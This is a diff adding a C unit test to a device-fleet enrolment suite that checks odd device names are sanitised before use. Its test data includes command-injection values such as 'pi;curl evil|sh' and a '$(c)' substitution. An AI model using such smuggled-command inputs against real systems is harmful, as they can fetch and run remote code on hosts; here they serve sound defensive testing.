@@ -14,6 +14,28 @@ static void test_enrolment_once(void **state) {
     assert_int_equal(fleet_connect_board(f, "machine-one", "1", "env-1"), ESP_EFORBIDDEN);
 }
 
+static void assert_enrols_as(struct fixture *f, const char *machine, const char *name,
+                             const char *wanted) {
+    cJSON *body = fleet_introduction(machine, "1", "e"), *device = NULL;
+    struct work op = {.body = body};
+    cJSON_ReplaceItemInObject(body, "name", cJSON_CreateString(name));
+    assert_int_equal(fleet_run(f, &op, do_enrol), 0);
+    const char *id = cJSON_GetStringValue(cJSON_GetObjectItem(op.doc, "device_id"));
+    assert_int_equal(store_device_get(store_loop_sql(f->store), id, &f->err, &device), 0);
+    assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItem(device, "name")), wanted);
+    cJSON_Delete(device);
+    cJSON_Delete(op.doc);
+    cJSON_Delete(body);
+}
+
+/* A host may be called anything; what becomes of it stands in addresses and commands. */
+static void test_odd_names_become_plain(void **state) {
+    struct fixture *f = *state;
+    assert_enrols_as(f, "machine-two", "pi;curl evil|sh", "pi-curl evil-sh");
+    assert_enrols_as(f, "machine-three", " a/b\x01$(c) ", "-a-b---c--");
+    assert_enrols_as(f, "machine-four", "küche.pi_4:+@-x", "küche.pi_4:+@-x");
+}
+
 static int do_enrol_with_token(struct store_tx *tx, struct work *op, struct err *err) {
     int r = store_token_use(tx, op->a, err);
     return r != 0 ? r : do_enrol(tx, op, err);
@@ -400,6 +422,7 @@ int main(void) {
 #define TEST(name) cmocka_unit_test_setup_teardown(name, fleet_start, fleet_stop)
     const struct CMUnitTest tests[] = {
         TEST(test_enrolment_once),
+        TEST(test_odd_names_become_plain),
         TEST(test_webhooks_hear_of_boards_that_go_and_come),
         TEST(test_token_and_board_are_one),
         TEST(test_older_epochs_are_refused),
